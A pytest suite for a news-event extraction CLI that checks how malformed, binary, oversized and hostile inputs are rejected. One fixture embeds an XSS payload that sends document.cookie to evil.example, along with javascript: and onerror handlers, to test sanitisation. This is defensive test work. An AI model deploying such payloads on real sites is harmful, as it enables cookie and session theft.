"""Bad inputs in a batch: each is reported on one stderr line naming the file (and line), counted
in the closing summary by reason, and sets exit code 1; the good article of the batch is still
processed. Only bad inputs: exit code 2. Every case runs through the real CLI (in-process, CliRunner)."""

from __future__ import annotations

import json
import re
import sqlite3
from pathlib import Path

import pytest

from support import GERMANY_ARTICLE, IRAN_ARTICLE, Cli, write_jsonl

pytestmark = pytest.mark.slow


@pytest.fixture
def good(tmp_path: Path) -> Path:
    return write_jsonl(tmp_path / "good.jsonl", [IRAN_ARTICLE])


def assert_batch(result, bad: Path, reason: str, line: int | None = None, good_ids=("iran-drones",),
                 skipped: int = 1) -> None:
    """Exit 1, one error line naming the bad file, good articles' events out, summary counts the reason."""
    assert result.returncode == 1, (result.returncode, result.stderr[-3000:])
    assert "Traceback" not in result.stderr
    errors = [e for e in result.error_lines if str(bad) in e]
    assert len(errors) == skipped, result.stderr
    where = f"{bad}:{line}:" if line is not None else f"{bad}:"
    assert errors[0].startswith(f"error {where}"), errors[0]
    rows = result.jsonl()
    assert [r["article_id"] for r in rows] == list(good_ids)
    assert all(r["events"] for r in rows if r["article_id"] == "iran-drones")
    assert re.search(rf"{skipped} input\(s\) skipped \(.*\b{skipped} {reason}\b.*\)", result.summary), result.summary


# -- one test per case, each with one good file ---------------------------------------------------

def test_binary_txt(invoke: Cli, good: Path, tmp_path: Path) -> None:
    bad = tmp_path / "binary.txt"
    bad.write_bytes(b"Iran sent drones\x00\x01\x02\xff" * 20)
    assert_batch(invoke("extract", bad, good), bad, "binary")


def test_png_named_as_html(invoke: Cli, good: Path, tmp_path: Path) -> None:
    bad = tmp_path / "picture.html"
    bad.write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10\x00\x00\x00\x10\x08\x06\x00\x00\x00")
    assert_batch(invoke("extract", good, bad), bad, "binary")


def test_binary_jsonl(invoke: Cli, good: Path, tmp_path: Path) -> None:
    bad = tmp_path / "binary.jsonl"
    bad.write_bytes(b'{"id": "x", "text": "a"}\n\x00\x00\x00\x00')
    assert_batch(invoke("extract", bad, good), bad, "binary")


def test_wrong_encoding(invoke: Cli, good: Path, tmp_path: Path) -> None:
    bad = tmp_path / "latin1.txt"
    bad.write_bytes("Caf\u00e9 d\u00e9j\u00e0 vu\nIran sent drones to Russia, a caf\u00e9 owner said.".encode("latin-1"))
    result = invoke("extract", bad, good)
    assert_batch(result, bad, "encoding")
    assert "UTF-8" in result.error_lines[0]


def test_wrong_encoding_in_one_jsonl_line(invoke: Cli, tmp_path: Path) -> None:
    bad = tmp_path / "mixed.jsonl"
    lines = [json.dumps(IRAN_ARTICLE).encode(), '{"id": "x", "text": "caf\u00e9"}'.encode("latin-1"),
             json.dumps(GERMANY_ARTICLE).encode()]
    bad.write_bytes(b"\n".join(lines) + b"\n")
    assert_batch(invoke("extract", bad), bad, "encoding", line=2, good_ids=("iran-drones", "leopards"))


def test_empty_file(invoke: Cli, good: Path, tmp_path: Path) -> None:
    bad = tmp_path / "empty.txt"
    bad.write_bytes(b"")
    assert_batch(invoke("extract", bad, good), bad, "empty")


def test_blank_file(invoke: Cli, good: Path, tmp_path: Path) -> None:
    bad = tmp_path / "blank.jsonl"
    bad.write_text("\n   \n\n", encoding="utf-8")
    assert_batch(invoke("extract", good, bad), bad, "empty")


def test_empty_directory(invoke: Cli, good: Path, tmp_path: Path) -> None:
    bad = tmp_path / "nothing-here"
    bad.mkdir()
    assert_batch(invoke("extract", good, bad), bad, "empty")


def test_jsonl_with_one_malformed_line(invoke: Cli, tmp_path: Path) -> None:
    bad = tmp_path / "feed.jsonl"
    bad.write_text("\n".join([json.dumps(IRAN_ARTICLE), '{"id": "broken", "text": "Iran sent dro', "",
                              json.dumps(GERMANY_ARTICLE)]) + "\n", encoding="utf-8")
    result = invoke("extract", bad)
    assert_batch(result, bad, "malformed_json", line=2, good_ids=("iran-drones", "leopards"))
    assert "2 article(s) read" in result.summary


def test_jsonl_lines_that_are_not_objects(invoke: Cli, good: Path, tmp_path: Path) -> None:
    bad = tmp_path / "not-objects.jsonl"
    bad.write_text('["a", "list"]\n"just a string"\n42\nnull\n', encoding="utf-8")
    result = invoke("extract", good, bad)
    assert_batch(result, bad, "malformed_json", line=1, skipped=4)
    assert [e.split(": ", 1)[0] for e in result.error_lines] == [f"error {bad}:{n}" for n in (1, 2, 3, 4)]


@pytest.mark.parametrize("record", [
    {"id": "no-text", "title": "A headline only"},
    {"id": "list-text", "text": ["Iran sent drones"]},
])
def test_json_object_without_text(invoke: Cli, good: Path, tmp_path: Path, record: dict) -> None:
    bad = tmp_path / "record.json"
    bad.write_text(json.dumps(record), encoding="utf-8")
    assert_batch(invoke("extract", bad, good), bad, "missing_text")


def test_jsonl_records_without_text_name_their_lines(invoke: Cli, tmp_path: Path) -> None:
    bad = tmp_path / "feed.jsonl"
    write_jsonl(bad, [IRAN_ARTICLE, {"id": "headline-only", "title": "Iran sends drones"}, {"id": "blank", "text": "  "},
                      {"id": "number", "text": 42}])
    result = invoke("extract", bad)
    assert_batch(result, bad, "missing_text", line=2, skipped=3)
    assert [e.split(": ", 1)[0] for e in result.error_lines] == [f"error {bad}:{n}" for n in (2, 3, 4)]


def test_json_array_with_a_bad_record(invoke: Cli, tmp_path: Path) -> None:
    bad = tmp_path / "batch.json"
    bad.write_text(json.dumps([IRAN_ARTICLE, {"id": "nope"}]), encoding="utf-8")
    assert_batch(invoke("extract", bad), bad, "missing_text", line=2)


def test_json_title_not_a_string(invoke: Cli, good: Path, tmp_path: Path) -> None:
    bad = tmp_path / "title.json"
    bad.write_text(json.dumps({"id": "t", "title": ["x"], "text": "Iran sent drones to Russia."}), encoding="utf-8")
    assert_batch(invoke("extract", good, bad), bad, "bad_field")


# Each record's one bad field, and the words its error line must hold.
BAD_FIELDS = [
    ({"published": True}, "field 'published' must be an ISO 8601 date (YYYY-MM-DD) or date-time, got true"),
    ({"published": 20221016}, "field 'published' must be an ISO 8601 date"),
    ({"published": "last Tuesday"}, "field 'published' must be an ISO 8601 date"),
    ({"published": "2022-13-45"}, "field 'published' must be an ISO 8601 date"),
    ({"id": True}, "field 'id' must be a string or a whole number, got true"),
    ({"id": 1.5}, "field 'id' must be a string or a whole number, got 1.5"),
    ({"id": {"x": 1}}, "field 'id' must be a string or a whole number, got an object"),
    ({"url": 42}, "field 'url' must be a string, got 42"),
    ({"outlet": ["Reuters"]}, "field 'outlet' must be a string, got a list"),
    ({"title": False}, "field 'title' must be a string, got false"),
]


def test_fields_of_the_wrong_type_are_rejected_with_their_line(invoke: Cli, tmp_path: Path) -> None:
    """Issue 13 #12: `"published": true` was stored as 'last reported: True'; id, url and outlet took any
    JSON type. Each bad record is one error line naming the file, the line and the field."""
    records = [IRAN_ARTICLE, *({**GERMANY_ARTICLE, "id": f"bad{n}", **field} for n, (field, _) in enumerate(BAD_FIELDS)),
               GERMANY_ARTICLE]
    bad = write_jsonl(tmp_path / "typed.jsonl", records)
    result = invoke("extract", bad)
    assert_batch(result, bad, "bad_field", line=2, good_ids=("iran-drones", "leopards"), skipped=len(BAD_FIELDS))
    for n, (error, (_, words)) in enumerate(zip(result.error_lines, BAD_FIELDS), 2):
        assert error.startswith(f"error {bad}:{n}: {words}"), error


def test_fields_of_the_right_type_are_kept(invoke: Cli, tmp_path: Path) -> None:
    """A whole number as id is read as its digits, an ISO date-time as its date, null as absent."""
    source = write_jsonl(tmp_path / "typed.jsonl", [
        {**IRAN_ARTICLE, "id": 17, "published": "2022-10-16T23:30:00+03:00", "url": None, "outlet": None},
        {**GERMANY_ARTICLE, "published": "20230125", "title": None}])
    result = invoke("ingest", source, "--db", tmp_path / "l.db", "--no-assess")
    assert result.returncode == 0, result.stderr
    listed = invoke("events", "--db", tmp_path / "l.db", "-f", "jsonl")
    assert sorted((r["article_id"], r["published"]) for r in listed.jsonl()) == [("17", "2022-10-16"),
                                                                                 ("leopards", "2023-01-25")]


def test_article_of_20_mb_is_rejected(invoke: Cli, good: Path, tmp_path: Path) -> None:
    bad = tmp_path / "huge.txt"
    sentence = "Iran agreed to send 6,000 drones to Russia, an unnamed official said. "
    with bad.open("w", encoding="utf-8") as fh:
        fh.write("A very long report\n")
        for _ in range(20_000_000 // len(sentence) + 1):
            fh.write(sentence)
    assert bad.stat().st_size >= 20_000_000
    result = invoke("extract", bad, good)
    assert_batch(result, bad, "too_large")
    assert "limit" in result.error_lines[0]


def test_jsonl_line_of_20_mb_is_rejected(invoke: Cli, tmp_path: Path) -> None:
    bad = tmp_path / "huge.jsonl"
    with bad.open("w", encoding="utf-8") as fh:
        fh.write(json.dumps(IRAN_ARTICLE) + "\n")
        fh.write(json.dumps({"id": "huge", "text": "Iran sent drones to Russia. " * 720_000}) + "\n")
    assert bad.stat().st_size >= 20_000_000
    assert_batch(invoke("extract", bad), bad, "too_large", line=2)


DEEP = 5000
HOSTILE_HTML = (
    "<html><head><title>Iran to send drones to Russia</title>"
    "<script>document.write('SCRIPTMARKER'); fetch('https://evil.example/steal?c=' + document.cookie)</script>"
    "<meta http-equiv=\"refresh\" content=\"0; url=javascript:alert('SCRIPTMARKER')\">"
    "</head><body onload=\"alert('SCRIPTMARKER')\">"
    "<img src=x onerror=\"alert('SCRIPTMARKER')\">"
    "<a href=\"javascript:alert('SCRIPTMARKER')\">click here</a>"
    "<iframe src=\"javascript:alert('SCRIPTMARKER')\"></iframe>"
    + "<div>" * DEEP
    + "<p>Iran agreed to send 6,000 drones to Russia, an unnamed official told the Washington Post on Tuesday."
    + "<p>The deal was discussed for months <b><i>with unclosed tags <span>everywhere"
    + "<svg><script>alert('SCRIPTMARKER')</script></svg>"
    + "<table><tr><td>cell<td>cell"  # unclosed table
    + "</div>" * (DEEP // 2)  # half of the divs never closed
    + "<!-- unterminated comment SCRIPTMARKER"
)


def test_hostile_html_does_not_crash(invoke: Cli, good: Path, tmp_path: Path) -> None:
    bad = tmp_path / "hostile.html"
    bad.write_text(HOSTILE_HTML, encoding="utf-8")
    result = invoke("extract", bad, good)
    assert "Traceback" not in result.stderr, result.stderr[-3000:]
    assert "SCRIPTMARKER" not in result.stdout
    ids = [r["article_id"] for r in result.jsonl()]
    if result.returncode == 0:  # read as an article
        assert ids == ["hostile", "iran-drones"]
    else:  # or cleanly rejected
        assert_batch(result, bad, r"\w+")


@pytest.mark.parametrize("html", [
    "<html><body><script>alert('SCRIPTMARKER')</script></body></html>",
    "<html><body>" + "<div>" * 20000 + "</body></html>",
    "<<<<>>>><!DOCTYPE><html <body<p>>",
    "<p>" + "&#" * 1000 + "</p>",
], ids=["only-a-script", "20000-divs", "broken-tags", "broken-entities"])
def test_html_without_an_article_is_a_clean_rejection(invoke: Cli, good: Path, tmp_path: Path, html: str) -> None:
    bad = tmp_path / "page.html"
    bad.write_text(html, encoding="utf-8")
    result = invoke("extract", good, bad)
    assert "Traceback" not in result.stderr, result.stderr[-3000:]
    assert "SCRIPTMARKER" not in result.stdout
    if result.returncode != 0:
        assert_batch(result, bad, r"\w+")


def test_file_name_with_brackets_is_reported_verbatim(invoke: Cli, good: Path, tmp_path: Path) -> None:
    """File names are data, not console markup.

    (Found failing at first: report_rejection printed the origin as rich markup, so the path
    '.../x[/red].txt' crashed the run with MarkupError and 'notes[bold].txt' was reported as 'notes.txt'.)
    """
    (tmp_path / "x[").mkdir()
    crash = tmp_path / "x[" / "red].txt"  # the path reads '.../x[/red].txt'
    crash.write_bytes(b"")
    swallowed = tmp_path / "notes[bold].txt"
    swallowed.write_bytes(b"")
    result = invoke("extract", good, crash, swallowed)
    assert "Traceback" not in result.stderr, result.stderr[-2000:]
    assert result.returncode == 1
    assert any(str(crash) in e for e in result.error_lines), result.stderr
    assert any(str(swallowed) in e for e in result.error_lines), result.stderr
    assert "2 input(s) skipped (2 empty)" in result.summary


# -- only bad inputs --------------------------------------------------------------------------------

def test_only_bad_inputs_exit_2(invoke: Cli, tmp_path: Path) -> None:
    empty = tmp_path / "empty.txt"
    empty.write_bytes(b"")
    binary = tmp_path / "binary.txt"
    binary.write_bytes(b"\x00\x01")
    malformed = tmp_path / "bad.jsonl"
    malformed.write_text("{not json}\n", encoding="utf-8")
    result = invoke("extract", empty, binary, malformed, tmp_path / "missing.txt")
    assert result.returncode == 2, result.stderr
    assert result.stdout == ""
    assert len(result.error_lines) == 4
    assert result.summary == ("0 article(s) read; 0 event(s) found; 4 input(s) skipped "
                              "(1 binary, 1 empty, 1 malformed_json, 1 not_found)")


def test_bad_stdin(invoke: Cli) -> None:
    result = invoke("extract", "-", input=b"\x00\x00\x00")
    assert result.returncode == 2
    assert result.error_lines and result.error_lines[0].startswith("error <stdin>:")
    assert invoke("extract", "-", input=b"").returncode == 2


# -- ingest -----------------------------------------------------------------------------------------

def test_ingest_with_bad_inputs_stores_only_the_good_article(invoke: Cli, good: Path, tmp_path: Path) -> None:
    binary = tmp_path / "binary.txt"
    binary.write_bytes(b"x\x00y")
    feed = tmp_path / "feed.jsonl"
    feed.write_text('{"id": "broken"\n{"id": "no-text"}\n', encoding="utf-8")
    latin = tmp_path / "latin.txt"
    latin.write_bytes("Iran sent drones \u00e0 Russia".encode("latin-1"))
    db = tmp_path / "ledger.db"
    result = invoke("ingest", binary, good, feed, latin, "--db", db)
    assert result.returncode == 1, result.stderr
    assert len(result.error_lines) == 4
    assert "1 stored, 0 already in the ledger" in result.summary
    assert "4 input(s) skipped" in result.summary
    with sqlite3.connect(db) as conn:
        assert [r[0] for r in conn.execute("SELECT article_key FROM articles")] == ["iran-drones"]
        assert conn.execute("SELECT count(*) FROM events").fetchone()[0] > 0
        orphans = conn.execute(
            "SELECT (SELECT count(*) FROM events WHERE article_id NOT IN (SELECT id FROM articles))"
            " + (SELECT count(*) FROM sources WHERE event_id NOT IN (SELECT id FROM events))"
            " + (SELECT count(*) FROM evidence WHERE event_id NOT IN (SELECT id FROM events))").fetchone()[0]
        assert orphans == 0
        assert conn.execute("SELECT count(*) FROM events WHERE id NOT IN (SELECT event_id FROM evidence)"
                            ).fetchone()[0] == 0  # every stored event cites evidence


def test_ingest_only_bad_inputs_exit_2(invoke: Cli, tmp_path: Path) -> None:
    empty = tmp_path / "empty.txt"
    empty.write_bytes(b"")
    db = tmp_path / "ledger.db"
    result = invoke("ingest", empty, "--db", db)
    assert result.returncode == 2
    with sqlite3.connect(db) as conn:
        assert conn.execute("SELECT count(*) FROM articles").fetchone()[0] == 0


def test_ingest_into_an_unusable_ledger(invoke: Cli, good: Path, tmp_path: Path) -> None:
    not_a_db = tmp_path / "notes.db"
    not_a_db.write_text("plain text, not SQLite " * 200, encoding="utf-8")
    result = invoke("ingest", good, "--db", not_a_db)
    assert result.returncode == 2
    assert "Traceback" not in result.stderr
    assert "cannot open the ledger" in result.stderr
